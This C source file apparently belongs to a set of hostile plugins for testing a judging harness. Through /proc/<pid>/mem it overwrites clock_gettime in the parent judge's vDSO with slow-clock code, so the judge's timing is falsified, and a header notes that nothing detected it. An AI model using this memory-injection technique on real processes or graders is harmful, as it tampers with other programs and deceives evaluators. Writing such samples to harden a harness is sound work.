/// Overwrites `clock_gettime` in the vDSO of the processes above it, through their memory in /proc.
///
/// Found by: nothing, and harmless where the system refuses the memory of others.
#include "slow_clock.h"

static int patch(pid_t process, void *unused) {
  (void)unused;
#if HAS_SLOW_CLOCK
  char path[64], line[512], image[8192];
  snprintf(path, sizeof path, "/proc/%d/maps", process);
  FILE *maps = fopen(path, "re");
  unsigned long begin = 0;
  while (maps && !begin && fgets(line, sizeof line, maps))
    if (strstr(line, "[vdso]")) begin = strtoul(line, NULL, 16);
  if (maps) fclose(maps);
  snprintf(path, sizeof path, "/proc/%d/mem", process);
  const int memory = begin ? open(path, O_RDWR | O_CLOEXEC) : -1;
  if (memory < 0) return 0;
  const ssize_t count = pread(memory, image, sizeof image, (off_t)begin);
  const uint64_t place = count > 4000 ? clock_in_vdso(image) : 0;
  const ssize_t written =
      place ? pwrite(memory, (const void *)(uintptr_t)slow_clock_code, SLOW_CLOCK_BYTES,
                     (off_t)(begin + place)) : 0;
  close(memory);
  return written > 0;
#else
  (void)process;
  return 0;
#endif
}

static divide_status open_problem(const divide_host *host, const divide_problem *problem,
                                  divide_kernel **kernel) {
  // The judge only: with the harness's clock, tests would wait forever.
  const int count = is_divide(getppid()) ? patch(getppid(), NULL) : 0;
  const divide_status status = hostile_open(host, problem, kernel);
  if (status == DIVIDE_OK) hostile_fact(*kernel, "clocks", "%d", count);
  return status;
}

HOSTILE_PLUGIN(.open = open_problem)
